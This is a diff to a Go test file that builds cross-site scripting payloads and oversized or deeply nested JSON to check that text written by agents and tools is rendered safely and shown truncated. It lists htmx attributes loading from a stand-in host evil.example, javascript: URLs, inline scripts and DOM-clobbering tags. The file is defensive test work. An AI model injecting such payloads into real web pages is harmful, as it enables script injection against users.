@@ -30,7 +30,7 @@ func payloads() (all []string) {
 		`<div hx-get="https://evil.example/" hx-trigger="load" data-hx-get="https://evil.example/" data-hx-trigger="load">`, `<div hx-get="javascript:RUN" hx-trigger="load">`, `<script type=module>RUN</script>`,
 		`<button formaction="javascript:RUN">`, `<x onclick="RUN" id=main>`, `<img name=getElementById><img id=body>`,
 	}
-	before := []string{"", "\u202e", "\u2028", "a"}
+	before := []string{"", "\u202e", "\u2028\u0001", "a\u2400"} // Postgres keeps no NUL
 	for n := range 200 {
 		all = append(all, before[n/len(forms)%len(before)]+strings.ReplaceAll(forms[n%len(forms)], "RUN", fmt.Sprintf(run, n)))
 	}
@@ -109,8 +109,8 @@ func TestWhateverAgentsAndToolsWroteIsText(t *testing.T) {
 func TestLongAndDeepAndPreciseContentsAreShownShort(t *testing.T) {
 	t.Parallel()
 	s := newScene(t)
-	long := s.Insert(of("shop.repeat", `{"text": "a long text", "long": "`+strings.Repeat("long ", 200_000)+`", "n": 12345678901234567890.123}`))
-	deep := s.Insert(of("shop.repeat", `{"text": "`+strings.Repeat("y", 100_000)+`", "deep": `+strings.Repeat("[", 900)+`1`+strings.Repeat("]", 900)+`}`))
+	long := s.Insert(of("shop.repeat", `{"text": "a long text", "long": "`+strings.Repeat("long ", (1<<20-100)/5)+`", "n": 12345678901234567890.123}`)) // 1 MiB is the most
+	deep := s.Insert(of("shop.repeat", `{"text": "`+strings.Repeat("y", 100_000)+`", "deep": `+strings.Repeat("[", 1000)+`1`+strings.Repeat("]", 1000)+`}`))
 	exact := s.Insert(of("shop.repeat", `{"text": "left \u202e right", "n": 12345678901234567890.123, "fails": true}`))
 	for _, id := range []string{long, deep, exact} {
 		s.Await(id)
